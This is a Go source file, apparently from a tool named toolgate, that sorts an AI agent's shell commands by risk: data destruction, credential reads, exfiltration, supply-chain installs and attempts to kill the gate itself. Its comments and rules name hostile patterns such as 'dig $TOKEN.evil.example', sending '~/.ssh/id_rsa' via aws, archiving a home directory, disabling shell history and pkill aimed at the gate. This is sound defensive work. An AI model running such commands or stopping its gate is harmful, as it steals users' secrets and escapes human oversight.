		"new-file=", "assume-new=", "what-if=", "jobs", "load-average", "keep-going", "dry-run", "just-print", "silent", "quiet",
		"always-make", "question", "touch", "debug", "output-sync", "environment-overrides", "ignore-errors", "print-directory",
		"no-print-directory", "warn-undefined-variables", "trace", "shuffle", "version", "help"},
		opts: []optEffect{{names: []string{"-f", "--file", "--makefile"}, value: standardInput, class: ClassInlineCode, why: "runs a makefile given inline on standard input, whose recipes no rule can read"},
			{names: []string{"-E", "--eval"}, value: anyValue, class: ClassInlineCode, why: "runs make rules given inline, whose recipes no rule can read"}}}
	helmDelete  = &cmdSpec{class: ClassDestructive, why: "uninstalls a release and deletes its resources"}
	dockerPrune = &cmdSpec{opts: []optEffect{{names: []string{"prune"}, operand: true, class: ClassDestructive, why: "deletes unused objects for good"}}}
	composeSpec = &cmdSpec{effect: EffectRuns, shortVal: "fp",
		long: []string{"file=", "project-name=", "profile=", "env-file=", "project-directory=", "ansi=", "progress=", "parallel=", "dry-run", "compatibility", "all-resources"},
		subs: subcommands{{"down", &cmdSpec{long: []string{"volumes", "rmi=", "remove-orphans", "timeout="},
			opts: []optEffect{{names: []string{"-v", "--volumes"}, class: ClassDestructive, why: "deletes the project's volumes and their data"}}}}}}
	pkillSpec = &cmdSpec{long: []string{"signal=", "full", "exact", "newest", "oldest", "parent=", "pgroup=", "group=", "session=", "terminal=", "euid=", "uid=", "ignore-case", "count", "echo", "inverse", "pidfile=", "logpidfile", "ns=", "nslist="},
		shortVal: "gGPsTtuUF",
		opts: []optEffect{{match: allProcesses, operand: true, class: ClassDestructive, why: "kills every process"}, stopsGate, killsAgents, killsAccess, killsSecurity,
			{match: killsGateLine, when: pkillFull, operand: true, class: ClassTampering, why: "matches toolgate's command line (pkill -f), stopping the gate that vets the agent's calls"},
			{names: []string{"-u", "-U", "--euid", "--uid"}, value: anyValue, class: ClassDestructive, why: "kills processes of a whole user"},
			{names: []string{"-v", "--inverse"}, class: ClassDestructive, why: "kills every process that does not match"}}}
	// stopsGate stops toolgate itself: with the gate gone, nothing vets
	// the agent's next calls.
	stopsGate = optEffect{match: killsGate, operand: true, class: ClassTampering, why: stopsGateWhy}
	// killsAgents kills the AI agents' processes, the user's sessions
	// among them.
	stopsNamedGate   = optEffect{match: namesGate, operand: true, class: ClassTampering, why: stopsGateWhy}
	killsNamedAgents = optEffect{match: namesAgent, operand: true, class: ClassDestructive, why: killsAgentsWhy}
	gateStop         = &cmdSpec{opts: []optEffect{stopsNamedGate}}
	// containerRm is docker rm: -v takes the container's anonymous
	// volumes, and their data, with it (compose down -v's named ones are
	// composeSpec's).
	containerRm = &cmdSpec{long: []string{"force", "volumes", "link", "depend", "all", "ignore", "time="}, shortVal: "t",
		opts: []optEffect{stopsNamedGate, {names: []string{"-v", "--volumes"}, class: ClassDestructive, why: "deletes the container's anonymous volumes and the data in them"}}}
	// killsAccess and killsSecurity kill the SSH server or a security
	// daemon by name (killall sshd, pkill auditd), as systemctl stop does.
	killsAccess   = optEffect{match: accessUnit, operand: true, class: ClassDestructive, why: "kills the remote-access service, locking its users out of the machine"}
	killsSecurity = optEffect{match: securityUnit, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "kills a security control (firewall, access control or audit)"}
	// serviceOff is service NAME stop|restart…: SysV's systemctl stop.
	serviceOff = &cmdSpec{opts: []optEffect{{match: accessUnit, operand: true, when: serviceStops, class: ClassDestructive, why: "stops the remote-access service, locking its users out of the machine"},
		{match: securityUnit, operand: true, when: serviceStops, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off a security control (firewall, access control or audit)"},
		{match: otherUnit, operand: true, when: serviceStops, class: ClassDestructive, why: stopsServiceWhy}}}
	killsAgents  = optEffect{match: killsAgent, operand: true, class: ClassDestructive, why: killsAgentsWhy}
	systemctlOff = &cmdSpec{opts: []optEffect{stopsNamedGate, {match: securityUnit, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off a security control (firewall, access control or audit)"},
		{match: accessUnit, operand: true, class: ClassDestructive, why: "stops the remote-access service, locking its users out of the machine"}}}
	homeSearch = &cmdSpec{shortVal: "efABCmdgtT", pattern: true, opts: []optEffect{patternBy("-e", "--regexp"), patternBy("-f", "--file"),
		{match: homeRoot, operand: true, class: ClassCredential, why: "searches the whole home directory, credential files included"},
		{match: wholeTree, operand: true, paths: true, class: ClassCredential, why: "searches a whole home directory (or /), credential files included"},
		{match: holdsCredentials, operand: true, paths: true, class: ClassCredential, why: "searches a directory that holds credential files"}}}
	// archiver packs the files it is given: a whole home directory takes
	// every credential in it along. probe is set for the archivers the
	// tables did not know before (their operands are still probed).
	archiver = func(shortVal string, probe bool) *cmdSpec {
		return &cmdSpec{shortVal: shortVal, probe: probe, opts: []optEffect{{match: wholeTree, operand: true, class: ClassCredential, why: "archives a whole home directory (or /), credential files included"},
			{match: holdsCredentials, operand: true, class: ClassCredential, why: copiesCredentialsWhy}}}
	}
	declSpec = &cmdSpec{opts: []optEffect{{match: historyVar, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off the shell history, a security control that records what runs"}}}
	echoSpec = &cmdSpec{opts: []optEffect{{match: secretRef, written: true, operand: true, class: ClassCredential, why: "prints a secret from the environment"}}}
	// servesOperandEffect is a file server's operand naming the served
	// directory.
	servesOperandEffect = optEffect{match: servesSecrets, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: "serves the home directory, the root or credentials to the network"}
	// uploader sends the files it is given: a credential among them
	// leaves the machine.
	uploader  = &cmdSpec{effect: EffectNetwork, probe: true, opts: []optEffect{sendsCredential, sendsSecretFile, sendsHome}}
	offSwitch = &cmdSpec{opts: []optEffect{{names: []string{"off"}, operand: true, class: ClassDestructive, why: cutsNetwork}}}
	ipDown    = &cmdSpec{opts: []optEffect{{names: []string{"down"}, operand: true, class: ClassDestructive, why: cutsNetwork}}}
	ipFlush   = &cmdSpec{opts: []optEffect{{names: []string{"flush"}, operand: true, class: ClassDestructive, why: cutsNetwork}}}
	// runsURL runs (or installs) the program its URL operand names.
	runsURL = &cmdSpec{opts: []optEffect{{match: foreignScriptURL, operand: true, class: ClassSupplyChain, why: "runs a program straight from a URL"}}}
	// tunnel puts a local port on the internet.
	tunnel        = &cmdSpec{effect: EffectNetwork, class: ClassExfiltrate, why: "exposes a local port to the internet", rare: &rareSpec{unless: []string{"--help", "-h", "--version", "-V"}}}
	gcloudCompute = &cmdSpec{subs: subcommands{{"scp", uploader}, {"firewall-rules", &cmdSpec{long: []string{"source-ranges="},
		opts: []optEffect{{names: []string{"--source-ranges"}, value: wholeInternet, class: ClassExfiltrate, why: openToInternetWhy}}}}}}
	gcloudTracks = &cmdSpec{subs: subcommands{{"storage", gcloudStorage}, {"compute", gcloudCompute}}}
	// gcloudStorage uploads like gsutil and deletes objects (gcloud
	// storage rm) or what a sync's source lacks.
	gcloudStorage = &cmdSpec{effect: EffectNetwork, probe: true, opts: []optEffect{sendsCredential, sendsSecretFile, sendsHome,
		{names: []string{"rm"}, operand: true, class: ClassDestructive, why: "deletes storage objects or buckets"},
		{names: []string{"--delete-unmatched-destination-objects"}, class: ClassDestructive, why: "deletes the objects that are not in the source"}}}
	// awsSendsFile is aws's way of reading a parameter from a file
	// ("--body fileb://~/.ssh/id_rsa"); s3 and s3api take plain paths.
	awsSendsFile = optEffect{match: awsFileCredential, operand: true, effect: EffectNetwork, class: ClassExfiltrate, why: "sends a credential file to the network"}
	// httpieSpec is httpie and xh: request items name files to send
	// ("@file", "field@file", "field=@file", "field:=@file").
	httpieSpec = &cmdSpec{effect: EffectNetwork, probe: true, opts: []optEffect{{match: metadataURL, operand: true, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"}, sendsCredential,
		{match: httpieSecret, operand: true, class: ClassExfiltrate, why: "sends a secret from the environment in the URL or the request body"}}}
	// dnsLookup resolves or pings a name: a secret in it leaves the
	// machine in the DNS query ("dig $TOKEN.evil.example").
	dnsLookup = &cmdSpec{effect: EffectNetwork, probe: true, opts: []optEffect{{match: secretRef, operand: true, class: ClassExfiltrate, why: "puts a secret from the environment in a name it looks up, which leaves the machine in the DNS query"}}}
)

// k8sSecret reports whether a kubectl get operand names secrets.
func k8sSecret(a string) bool {
	for _, r := range strings.Split(a, ",") {
		r, _, _ = strings.Cut(r, "/")
		if r == "secret" || r == "secrets" || r == "secret.v1" {
			return true
		}
	}
	return false
}

// sqlValue is a tool's option whose value is SQL, sqlOperand an operand
// that is: either destroys when the SQL drops or empties data.
func sqlValue(names ...string) optEffect {
	return optEffect{names: names, value: sqlDestroys, class: ClassDestructive, why: "runs SQL that drops or empties data"}
}

var sqlOperand = optEffect{match: sqlDestroys, operand: true, class: ClassDestructive, why: "runs SQL that drops or empties data"}

// cloudDelete reports whether a cloud CLI's operation deletes, terminates
// or empties: a destroy verb as the whole word or as any part of a
// compound one ("delete", "delete-bucket", "batch-delete-item",
// "admin-delete-user", "delete-batch", "sns unsubscribe", "acr
// repository untag": the image may then be purged as untagged;
// untag-resource only drops a label).
func cloudDelete(a string) bool {
	return a == "unsubscribe" || a == "untag" || a == "undeploy" || destroyPart(a)
}

// destroyParts are the verbs that destroy wherever they stand in a
// compound verb.
var destroyParts = [...]string{"delete", "remove", "destroy", "terminate", "purge", "drop", "wipe", "erase",
	"deregister", "unregister", "truncate", "nuke", "flush", "rdelete", "prune"}

// destroyPart reports whether a verb, split at '-', '_' and ':', has a
// destroy verb among its parts (any case).
func destroyPart(v string) bool {
	for v != "" {
		i := strings.IndexAny(v, "-_:")
		part := v
		if i >= 0 {
			part, v = v[:i], v[i+1:]
		} else {
			v = ""
		}
		for _, d := range destroyParts {
			if strings.EqualFold(part, d) {
				return true
			}
		}
	}
	return false
}

// servesDir is a file server's option naming the served directory.
func servesDir(names ...string) optEffect {
	return optEffect{names: names, value: servesSecrets, effect: EffectNetwork, class: ClassExfiltrate, why: "serves the home directory, the root or credentials to the network"}
}

// servesOperand is a file server whose operand is the served directory;
// shortVal lists its short options that take a value ("-p 8080").
func servesOperand(shortVal string) *cmdSpec {
	return &cmdSpec{effect: EffectNetwork, shortVal: shortVal, probe: true, opts: []optEffect{servesOperandEffect}}
}

// secretInBody is a fetcher's secret sent as data: in the request body
// or the query it builds. A secret in a header (-H) or in the login
// option (-u) is how an API is called and stays open.
var secretInBody = optEffect{value: secretRef, class: ClassExfiltrate, why: "sends a secret from the environment in the request body"}

// fetchURL is a fetcher's URL operand: the metadata service, or a secret
// from the environment in the host, path or query.
var fetchURL = []optEffect{
	{match: metadataURL, operand: true, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"},
	{match: secretInURL, operand: true, class: ClassExfiltrate, why: "sends a secret from the environment in the URL"},
}

// curlFetch and wgetFetch are the fetchers' risk entries: their options
// that take a value come from their file entries (commands_files.go),
// merged into the same entry of the command table, so the URL operands
// are found as curl and wget find them.
func curlFetch() *cmdSpec {
	body := secretInBody
	body.names = []string{"-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "-F", "--form", "--form-string", "--json", "--url-query"}
	url := optEffect{names: []string{"--url"}, value: secretInURL, class: ClassExfiltrate, why: "sends a secret from the environment in the URL"}
	meta := optEffect{names: []string{"--url", "-e", "--referer", "-x", "--proxy", "--preproxy", "-H", "--header", "--connect-to", "--resolve"},
		value: metadataURL, class: ClassCredential, why: "asks the cloud metadata service, which hands out the machine's credentials"}
	return &cmdSpec{effect: EffectNetwork, opts: append(append([]optEffect(nil), fetchURL...), body, url, meta)}
}

func wgetFetch() *cmdSpec {
	body := secretInBody
	body.names = []string{"--post-data", "--body-data"}
	return &cmdSpec{effect: EffectNetwork, opts: append(append([]optEffect(nil), fetchURL...), body)}
}

// secretConfig is an option whose value a command reads as its
// configuration or input: given a credential file, its errors print the
// file's lines ("ssh -F /etc/shadow x", "nft -f", "rake -f").
func secretConfig(names ...string) optEffect {
	return optEffect{names: names, value: credentialRef, class: ClassCredential, why: "reads a credential file as its configuration, and its errors print the lines"}
}

// withChdirTree adds to tar's entry the whole tree reached through -C:
// "tar -C ~ -czf x.tgz ." archives the home directory as "tar czf x.tgz
// ~" does.
func withChdirTree(s *cmdSpec) *cmdSpec {
	s.opts = append(s.opts, optEffect{names: []string{"-C", "--directory"}, when: chdirWholeTree, class: ClassCredential,
		why: "archives a whole home directory (or /), reached through -C, credential files included"})
	return s
}

// chdirWholeTree reports whether tar's arguments create an archive of
// ".", "./" or "*" after a -C into a whole home directory or /.
func chdirWholeTree(args []string) bool {
	home, create := false, false
	for i, a := range args {
		if a == "--" {
			break
		}
		switch {
		case a == "-C" || a == "--directory":
			home = i+1 < len(args) && wholeTree(args[i+1])
		case strings.HasPrefix(a, "--directory="):
			home = wholeTree(a[len("--directory="):])
		case strings.HasPrefix(a, "-C") && len(a) > 2:
			home = wholeTree(a[2:])
		case a == "--create" || !strings.HasPrefix(a, "--") && strings.HasPrefix(a, "-") && strings.Contains(a, "c") && !strings.HasPrefix(a, "-C"),
			i == 0 && !strings.HasPrefix(a, "-") && strings.Contains(a, "c"):
			create = true
		case home && (a == "." || a == "./" || a == "*" || a == ".*"):
			return create
		}
	}
	return false
}

// holdsCredentials reports whether a directory holds credential files
// (internal/sensitive: "/etc", "~/.config", "~/.ssh"): read recursively,
// they are read too.
func holdsCredentials(a string) bool {
	if a == "" || a[0] != '/' && a[0] != '~' {
		return false // relative: the workspace's own
	}
	if credentialPath(a) {
		return true
	}
	_, ok := sensitive.Within(a, "", sensitive.Credential)
	return ok
}

// galaxyInstalls reports whether ansible-galaxy's arguments install
// (ansible-galaxy install X, ansible-galaxy role|collection install X).
func galaxyInstalls(args []string) bool {
	for _, a := range args {
		if a == "install" {
			return true
		}
	}
	return false
}

// gitHelperGet is a git credential helper: get prints the password it
// stores.
var gitHelperGet = &cmdSpec{opts: []optEffect{{names: []string{"get"}, operand: true, class: ClassCredential, why: "prints stored git credentials"}}}

// dockerHelperGet is a docker credential helper: get prints a
// registry's stored password, list the registries.
var dockerHelperGet = &cmdSpec{opts: []optEffect{{names: []string{"get"}, operand: true, first: true, class: ClassCredential, why: "prints a registry's stored password"}}}

// npmToken is npm and pnpm token: create makes a registry token and
// prints it.
var npmToken = &cmdSpec{opts: []optEffect{{names: []string{"create"}, operand: true, first: true, class: ClassCredential, why: "creates a registry token and prints it"}}}

// ghAuthRefresh reports whether gh auth's arguments are refresh's: its
// --scopes add to the token; gh auth login's name the scopes to ask for.
func ghAuthRefresh(args []string) bool { return len(args) > 0 && args[0] == "refresh" }

// appSecretsWhy is the reason of a platform's command that prints an
// app's settings, or pulls them into a file.
const appSecretsWhy = "prints or downloads an app's environment settings: its database URLs, API keys and passwords"

// azAppSettings is az webapp|functionapp: config appsettings list prints
// the settings with their values.
var azAppSettings = &cmdSpec{subs: subcommands{{"config", &cmdSpec{subs: subcommands{{"appsettings", &cmdSpec{opts: []optEffect{{names: []string{"list"}, operand: true, first: true, class: ClassCredential, why: appSecretsWhy}}}},
	{"connection-string", &cmdSpec{opts: []optEffect{{names: []string{"list"}, operand: true, first: true, class: ClassCredential, why: "prints an app's connection strings, passwords included"}}}}}}}}}

// noSetFlag reports whether a command's arguments set nothing (railway
// variables --set KEY=V sets; without it, the variables are printed).
func noSetFlag(args []string) bool {
	for i, a := range args {
		if a == "--set" || strings.HasPrefix(a, "--set=") || a == "-s" || a == "--remove" {
			return false
		}
		// railway variable set|delete KEY…: the subcommand form of --set.
		if i == 1 && (a == "set" || a == "delete" || a == "remove" || a == "unset") {
			return false
		}
	}
	return true
}

// psEnviron: a ps argument in BSD form (no dash) asking for every
// process's environment (e: ps auxe, ps eww).
func psEnviron(a string) bool {
	if a == "" || a[0] == '-' || len(a) > 10 || !strings.ContainsRune(a, 'e') {
		return false
	}
	for i := 0; i < len(a); i++ {
		if c := a[i]; !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z') {
			return false
		}
	}
	return true
}

// quarantineWhy is the reason of removing macOS's quarantine mark.
const quarantineWhy = "removes the quarantine mark of a downloaded program, so Gatekeeper lets it run unchecked"

// defaultsWrites reports whether defaults' arguments write a setting.
func defaultsWrites(args []string) bool {
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			return a == "write"
		}
	}
	return false
}

// xattrClearsOutside reports whether xattr's arguments delete an
// attribute or clear them all (-d, -c, in any cluster of short options)
// of a file outside the working directory: absolute, in a home, above
// it, or known only when it runs.
func xattrClearsOutside(args []string) bool {
	clears, outside := false, false
	for _, a := range args {
		switch {
		case shortCluster(a):
			clears = clears || strings.ContainsAny(a, "dc")
		case strings.HasPrefix(a, "/") || strings.HasPrefix(a, "~") || strings.HasPrefix(a, "$") || a == ".." || strings.HasPrefix(a, "../"):
			outside = true
		}
	}
	return clears && outside
}

// loaderVar: a variable that makes programs load a library (DYLD_*,
// LD_PRELOAD, LD_LIBRARY_PATH, LD_AUDIT).
func loaderVar(a string) bool {
	return strings.HasPrefix(a, "DYLD_") || strings.HasPrefix(a, "LD_PRELOAD") || strings.HasPrefix(a, "LD_LIBRARY_PATH") || strings.HasPrefix(a, "LD_AUDIT")
}

// credentialTree reports whether an operand is a whole home directory
// (or /) or another directory that holds credential files (~/.config,
// /etc): sending or copying it takes them along.
func credentialTree(a string) bool { return wholeTree(a) || holdsCredentials(a) }

// copiesTree reports whether cp's arguments copy directories whole: -r,
// -R, -a or their long forms, alone or in a cluster of short options.
func copiesTree(args []string) bool {
	for _, a := range args {
		switch {
		case a == "--":
			return false
		case a == "--recursive" || a == "--archive":
			return true
		case shortCluster(a) && strings.ContainsAny(a, "rRa"):
			return true
		}
	}
	return false
}

// diffRecursive reports whether diff's arguments compare directories
// recursively (-r, --recursive, r in a cluster of short options).
func diffRecursive(args []string) bool {
	for _, a := range args {
		switch {
		case a == "--":
			return false
		case a == "--recursive":
			return true
		case len(a) > 1 && a[0] == '-' && a[1] != '-':
			for j := 1; j < len(a); j++ {
				if a[j] == 'r' {
					return true
				}
				if strings.IndexByte("CUIxXFLWS", a[j]) >= 0 {
					break
				}
			}
		}
	}
	return false
}

// namesCredential reports whether a transfer script names a credential
// file ("put /etc/shadow x").
func namesCredential(script string) bool {
	_, ok := mentionsCredential(script)
	return ok
}

// arithOnly reports whether a word's only expansions are arithmetic
// ("$((3*4))", "$((i + 1))") with nothing but digits beside them: its
// value is a number. What the expressions read is judged where bash
// evaluates it (arithCode: a value known only at run time may run code
// there); a secret's name in them may print the secret, if a number.
func arithOnly(text string) bool {
	rest, found := text, false
	for {
		i := strings.Index(rest, "$((")
		if i < 0 {
			break
		}
		depth, j := 0, i+1
		for ; j < len(rest); j++ {
			if rest[j] == '(' {
				depth++
			} else if rest[j] == ')' {
				if depth--; depth == 0 {
					break
				}
			}
		}
		if j >= len(rest) || depth != 0 || !numericExpr(rest[i+3:j-1]) {
			return false
		}
		rest, found = rest[:i]+rest[j+1:], true
	}
	return found && strings.Trim(rest, "0123456789") == ""
}

// numericSubsts are substitutions whose output is a number (the
// commands numericOutput knows, as agents spell them): the caller's own
// ids, the processor count, the time.
var numericSubsts = [...]string{"$(id -u)", "$(id -g)", "`id -u`", "`id -g`", "$(nproc)", "`nproc`", "$(date +%s)", "`date +%s`"}

// numberWord reports whether a word's value is a number, or numbers
// joined by ':' ("$(id -u):$(id -g)"): arithmetic (arithOnly) or
// numericSubsts beside digits. It is no option and no path, though it
// may be any number.
func numberWord(text string) bool {
	if arithOnly(text) {
		return true
	}
	found := false
	for _, n := range numericSubsts {
		if strings.Contains(text, n) {
			text, found = strings.ReplaceAll(text, n, "0"), true
		}
	}
	return found && strings.Trim(text, "0123456789:") == ""
}

// numericExpr reports whether an arithmetic expression names no secret
// (secretName): its value is then a number that holds none.
func numericExpr(e string) bool {
	for i := 0; i < len(e); {
		if !isNameStart(e[i]) {
			i++
			continue
		}
		j := i + 1
		for j < len(e) && (isNameStart(e[j]) || e[j] >= '0' && e[j] <= '9') {
			j++
		}
		if secretName(e[i:j]) {
			return false
		}
		i = j
	}
	return true
}

// numbers stand for the values of an arithmetic expansion when the
// table's operand tests are asked whether one may match it: the signs,
// zero and a few magnitudes (kill -1 is every process).
var numbers = [...]string{"-1", "0", "1", "-2", "2", "9", "-9", "15", "65535", "-65535"}

// numericOption reports whether one of names is an option a number may
// spell ("-1", "-9").
func numericOption(names []string) bool {
	for _, n := range names {
		if len(n) > 1 && n[0] == '-' && strings.Trim(n[1:], "0123456789") == "" {
			return true
		}
	}
	return false
}

// matchesNumber reports whether an operand effect may match a number.
func (o *optEffect) matchesNumber() bool {
	for _, n := range numbers {
		if o.matchOperand(n) {
			return true
		}
	}
	return false
}

// The table's tests of option values and operands, named so that the
// generated table (commands_table.go) can refer to them.

// rpmInstalls: rpm's first mode option installs. After -q (--query) or
// -V (--verify), -i is --info and -F --file ("rpm -qi bash" reads the
// package database).
func rpmInstalls(args []string) bool {
	for _, a := range args {
		switch {
		case a == "--query" || a == "--verify":
			return false
		case a == "--install" || a == "--upgrade" || a == "--freshen" || a == "--reinstall":
			return true
		case a == "--":
			return true
		case len(a) > 1 && a[0] == '-' && a[1] != '-':
			for _, c := range a[1:] {
				switch c {
				case 'q', 'V':
					return false
				case 'i', 'U', 'F':
					return true
				}
			}
		}
	}
	return true
}

// helmInstall is helm install, upgrade and template: a chart given as a
// URL is code nobody vetted, run in the cluster (a chart repository's,
// --repo, is a registry's).
var helmInstall = &cmdSpec{long: []string{"repo=", "version=", "namespace=", "values=", "set=", "wait", "atomic", "install", "create-namespace"}, shortVal: "nf",
	opts: []optEffect{{operand: true, match: remoteURL, class: ClassSupplyChain, why: "installs a chart fetched from a URL"}}}

// publicACL: an object ACL that lets anyone read (aws s3 --acl).
func publicACL(v string) bool {
	return v == "public-read" || v == "public-read-write" || v == "authenticated-read"
}

// remoteURLKey: a git configuration key that holds a remote's URL
// (remote.origin.url, remote.x.pushurl).
func remoteURLKey(a string) bool {
	a = strings.ToLower(a)
	return strings.HasPrefix(a, "remote.") && (strings.HasSuffix(a, ".url") || strings.HasSuffix(a, ".pushurl"))
}

// httpDelete: an HTTP method value that deletes (gh api -X DELETE).
func httpDelete(v string) bool { return strings.EqualFold(v, "DELETE") }

// setsValue: a sysctl operand that sets a key (key=value).
func setsValue(a string) bool { return strings.Contains(a, "=") }

// climbsOut: a sysctl key that climbs out of /proc/sys.
func climbsOut(a string) bool { return strings.Contains(a, "..") }

// isZero: a value of 0 (auditctl -e 0).
func isZero(v string) bool { return v == "0" }

// isHost: the value host (docker --net host).
func isHost(v string) bool { return v == "host" }

// historyOffset: history's negative offsets ("-3") are operands.
func historyOffset(a string) bool { return strings.Trim(a, "-0123456789") == "" && len(a) > 1 }

// awsFileCredential: aws's way of reading a parameter from a file names a
// credential ("fileb://~/.ssh/id_rsa").
func awsFileCredential(a string) bool {
	return (strings.HasPrefix(a, "file://") || strings.HasPrefix(a, "fileb://")) && credentialRef(a)
}

// publishWhy is the reason a publishing command gives.
const publishWhy = "publishes code to a registry, which cannot be taken back"

// gradlePublish reports whether a gradle task (":lib:publish") uploads
// the build's publications: publish, publishPlugins and the
// publish…To…Repository tasks, not the ones that end in the local
// Maven repository.
func gradlePublish(task string) bool {
	t := task[strings.LastIndexByte(task, ':')+1:]
	return strings.HasPrefix(t, "publish") && !strings.HasSuffix(t, "MavenLocal")
}

// sbtPublish reports whether an sbt command publishes: publish,
// publishSigned and their cross-built forms (+publish), and the
// Sonatype release commands; publishLocal stays in the machine.
func sbtPublish(cmd string) bool {
	c := strings.TrimPrefix(cmd, "+")
	c = c[strings.LastIndexByte(c, '/')+1:] // a project's: core/publish
	switch c {
	case "publish", "publishSigned", "sonatypeBundleRelease", "sonatypeRelease", "sonatypeReleaseAll", "releaseEverything":
		return true
	}
	return false
}
